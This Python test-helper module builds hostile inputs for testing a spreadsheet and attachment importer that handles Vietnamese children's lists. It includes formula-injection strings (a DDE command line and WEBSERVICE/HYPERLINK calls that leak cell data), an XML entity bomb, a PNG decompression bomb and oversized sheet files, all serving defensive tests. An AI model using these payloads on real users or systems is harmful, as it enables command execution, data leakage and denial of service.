"""Generators of hostile inputs (nothing binary is checked in: every file is made by a test when needed)."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

# Texts a person or a forged file could put where a name, a village or a note goes.
FORMULAS = [
    '=HYPERLINK("http://x/"&B3)',
    '=WEBSERVICE("http://x/?"&A2)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
]


def formula_cells_in_xml(path: Path) -> list[str]:
    """Every <f> element in any sheet of an .xlsx file (what Excel would compute)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                for tag in ("<f>", "<f ", 't="e"'):
                    if tag in xml:
                        found.append(f"{name}: {tag}")
    return found


def texts_of(path: Path) -> dict[str, list]:
    """{sheet title: [(coordinate, value, quote prefix) of every text cell]} read back with openpyxl."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        cells = []
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                assert c.data_type != "e", f"{ws.title}!{c.coordinate} is an error value: {c.value!r}"
                if isinstance(c.value, str):
                    cells.append((c.coordinate, c.value, bool(c.quotePrefix)))
        out[ws.title] = cells
    return out


def xlsx_bytes(members: dict[str, bytes | str], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def rewrite_member(src: Path, dst: Path, change, compression=zipfile.ZIP_DEFLATED) -> None:
    """Copy an .xlsx/.bvtebak, passing each member's bytes through change(name, data) -> data."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", compression) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, change(info.filename, zin.read(info)), compress_type=compression)


def simple_list_xlsx(path: Path, rows: int = 3, *, hidden_decoy: bool = False) -> None:
    """A small children list; with hidden_decoy, a hidden 'Danh sách trẻ em' and a very hidden sheet come first."""
    from openpyxl import Workbook

    wb = Workbook()
    first = wb.active
    if hidden_decoy:
        first.title = "Danh sách trẻ em"
        first.append(["Họ và tên", "Ngày sinh"])
        first.append(["Trẻ Trong Trang Ẩn", "01/02/2015"])
        first.sheet_state = "hidden"
        secret = wb.create_sheet("Bí mật")
        secret.append(["Họ và tên", "Ngày sinh"])
        secret.append(["Trẻ Trong Trang Rất Ẩn", "01/02/2015"])
        secret.sheet_state = "veryHidden"
        ws = wb.create_sheet("Danh sách")
    else:
        ws = first
        ws.title = "Danh sách"
    ws.append(["Họ và tên", "Ngày sinh", "Thôn/tổ dân phố"])
    for i in range(rows):
        ws.append([f"Nguyễn Văn {chr(65 + i % 26)}", f"0{1 + i % 9}/02/2015", "Thôn Một"])
    if hidden_decoy:
        wb.active = 2
    wb.save(path)


def sheet_member(zf_names) -> str:
    return next(n for n in zf_names if n.startswith("xl/worksheets/sheet"))


def claims_huge_dimension(src: Path, dst: Path) -> None:
    """The sheet declares A1:XFD1048576 and has one cell far right: openpyxl would pad every row to 16,384."""
    def change(name, data):
        if name.startswith("xl/worksheets/sheet"):
            text = data.decode()
            import re
            text = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', text)
            text = text.replace("</row>", '<c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>', 2)
            return text.encode()
        return data
    rewrite_member(src, dst, change)


def padded_with_spaces(dst: Path, megabytes: int = 60) -> None:
    """A sheet whose XML carries tens of MB of spaces (a ~100 KB file): the XML parser would keep them all."""
    src = dst.with_name("base-" + dst.name)
    simple_list_xlsx(src)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                head, tail = data.split(b"<sheetData>", 1)
                with zout.open(info.filename, "w") as out:
                    out.write(head + b"<sheetData>")
                    block = b" " * (1 << 20)
                    for _ in range(megabytes):
                        out.write(block)
                    out.write(tail)
            else:
                zout.writestr(info, data)


def entity_bomb_xml(root: str = "worksheet") -> bytes:
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    return (f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(lol)}]>'
            f'<{root} xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
            f'<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></{root}>').encode()


def peak_memory(fn) -> tuple[object, float]:
    """(result or the exception raised, peak Python memory in MB) of calling fn()."""
    import tracemalloc

    tracemalloc.start()
    try:
        try:
            result = fn()
        except Exception as exc:  # noqa: BLE001 - the caller asserts on it
            result = exc
        return result, tracemalloc.get_traced_memory()[1] / 1e6
    finally:
        tracemalloc.stop()


# -- attached documents: sample files made on the spot (nothing binary checked in) --------------------------------
def png_bytes(width: int = 120, height: int = 80, *, marker: str = "", colour=(200, 30, 30)) -> bytes:
    """A real PNG; `marker` goes into a text chunk (metadata the program must not keep) and its pixels."""
    from PIL import Image, ImageDraw
    from PIL.PngImagePlugin import PngInfo

    im = Image.new("RGB", (width, height), colour)
    ImageDraw.Draw(im).rectangle((5, 5, width // 2, height // 2), fill=(20, 20, 200))
    info = PngInfo()
    if marker:
        info.add_text("Comment", marker)
    out = io.BytesIO()
    im.save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_bytes(width: int = 160, height: int = 120, *, exif_marker: str = "") -> bytes:
    """A real JPEG with an EXIF block (a camera's make and a GPS-like text) the program must strip."""
    from PIL import Image

    im = Image.new("RGB", (width, height), (30, 160, 60))
    exif = Image.Exif()
    exif[0x010F] = exif_marker or "May-anh-thu"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° when shown
    out = io.BytesIO()
    im.save(out, "JPEG", quality=85, exif=exif)
    return out.getvalue()


def pdf_bytes(pages: int = 2, *, marker: str = "BAN DA KY") -> bytes:
    """A real PDF of `pages` pages (reportlab), `marker` written on each (uncompressed, so findable in bytes)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=A4, pageCompression=0)
    for i in range(pages):
        c.drawString(72, 760, f"{marker} - trang {i + 1}")
        c.rect(72, 400, 300, 200)
        c.showPage()
    c.save()
    return out.getvalue()


def png_bomb_header(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG whose header declares a huge image (decompression bomb): a few hundred bytes on disk."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def exe_bytes() -> bytes:
    """The start of a Windows program (MZ header, PE stub text)."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"This program cannot be run in DOS mode." * 20


def pdf_no_pages() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    from pypdf import PdfWriter

    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


PDF_GARBAGE = b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
